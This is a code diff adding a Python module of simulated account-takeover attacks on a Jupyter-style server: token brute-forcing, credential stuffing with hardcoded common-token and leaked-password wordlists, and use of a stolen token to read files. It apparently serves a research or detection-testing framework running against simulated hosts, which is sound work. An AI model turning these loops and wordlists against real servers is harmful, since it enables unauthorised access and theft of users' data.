@@ -1,0 +1,152 @@
+"""Account takeover (taxonomy: account takeover → exposed data,
+inaccessible data, disruption).
+
+- :class:`TokenBruteforceAttack` — guess access tokens over HTTP.  Noisy
+  (403 storm); succeeds only against weak tokens.
+- :class:`CredentialStuffingAttack` — replay a leaked password list
+  against password auth.
+- :class:`StolenTokenAttack` — the quiet one: a *valid* token used from
+  attacker infrastructure.  No failures at all; only the new-source
+  detector sees it.
+"""
+
+from __future__ import annotations
+
+from typing import List, Optional, Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.taxonomy.oscrp import Avenue, Concern
+
+COMMON_TOKENS = [
+    "", "admin", "password", "jupyter", "token", "123456", "letmein",
+    "notebook", "secret", "test", "dev", "changeme", "root", "demo",
+]
+
+LEAKED_PASSWORDS = [
+    "123456", "password", "hunter2", "qwerty", "iloveyou", "admin123",
+    "welcome1", "sunshine", "monkey", "dragon", "jupyter2024", "science!",
+]
+
+
+class TokenBruteforceAttack(Attack):
+    """Dictionary attack on the access token."""
+
+    name = "token-bruteforce"
+    avenue = Avenue.ACCOUNT_TAKEOVER
+    technique = "token-bruteforce"
+
+    def __init__(self, *, wordlist: Optional[List[str]] = None, delay: float = 0.5):
+        self.wordlist = wordlist if wordlist is not None else COMMON_TOKENS
+        self.delay = delay
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.attacker_client()
+        found: Optional[str] = None
+        attempts = 0
+        for guess in self.wordlist:
+            client.token = guess
+            resp = client.request("GET", "/api/status")
+            attempts += 1
+            scenario.run(self.delay)
+            if resp.status == 200:
+                found = guess
+                break
+        concerns: Set[Concern] = set()
+        loot = 0
+        if found is not None:
+            # Prove access: enumerate the victim's files.
+            listing = client.json("GET", "/api/contents/")
+            loot = len(listing.get("content") or [])
+            concerns |= {Concern.EXPOSED_DATA, Concern.INACCESSIBLE_OR_INCORRECT_DATA,
+                         Concern.DISRUPTION_OF_COMPUTING}
+        return self._result(
+            success=found is not None,
+            concerns=concerns,
+            narrative=(f"token {found!r} found after {attempts} guesses"
+                       if found else f"no hit in {attempts} guesses"),
+            attempts=attempts,
+            token_found=found or "",
+            entries_listed=loot,
+        )
+
+
+class CredentialStuffingAttack(Attack):
+    """Leaked-password replay against password auth."""
+
+    name = "credential-stuffing"
+    avenue = Avenue.ACCOUNT_TAKEOVER
+    technique = "credential-stuffing"
+
+    def __init__(self, *, passwords: Optional[List[str]] = None, delay: float = 1.0):
+        self.passwords = passwords if passwords is not None else LEAKED_PASSWORDS
+        self.delay = delay
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        from repro.wire.http import HttpRequest, parse_response
+
+        found = None
+        attempts = 0
+        for password in self.passwords:
+            conn = scenario.attacker_host.connect(scenario.server_host,
+                                                  scenario.server.config.port)
+            responses = []
+            buf = b""
+
+            def on_data(data, responses=responses):
+                nonlocal buf
+                buf += data
+                resp, rest = parse_response(buf)
+                if resp:
+                    responses.append(resp)
+                    buf = rest
+
+            conn.on_data_client = on_data
+            req = HttpRequest("GET", "/api/status",
+                              {"Host": "jupyter", "X-Jupyter-Password": password})
+            conn.send_to_server(req.encode())
+            scenario.run(self.delay)
+            attempts += 1
+            if responses and responses[0].status == 200:
+                found = password
+                break
+            if conn.open:
+                conn.close()
+        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if found else set()
+        return self._result(
+            success=found is not None,
+            concerns=concerns,
+            narrative=(f"password {found!r} accepted after {attempts} tries"
+                       if found else f"all {attempts} passwords rejected"),
+            attempts=attempts,
+        )
+
+
+class StolenTokenAttack(Attack):
+    """A leaked valid token used from new infrastructure — zero failures."""
+
+    name = "stolen-token"
+    avenue = Avenue.ACCOUNT_TAKEOVER
+    technique = "stolen-token-session"
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.attacker_client(token=scenario.token)
+        resp = client.request("GET", "/api/contents/")
+        ok = resp.status == 200
+        stolen_bytes = 0
+        if ok:
+            import json as _json
+
+            listing = _json.loads(resp.body)
+            for entry in listing.get("content") or []:
+                if entry["type"] == "file":
+                    model = client.json("GET", f"/api/contents/{entry['path']}")
+                    stolen_bytes += len(str(model.get("content", "")))
+        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if ok else set()
+        return self._result(
+            success=ok,
+            concerns=concerns,
+            narrative=f"stolen token accepted; browsed {stolen_bytes} bytes of content",
+            bytes_browsed=stolen_bytes,
+            source_ip=scenario.attacker_host.ip,
+        )
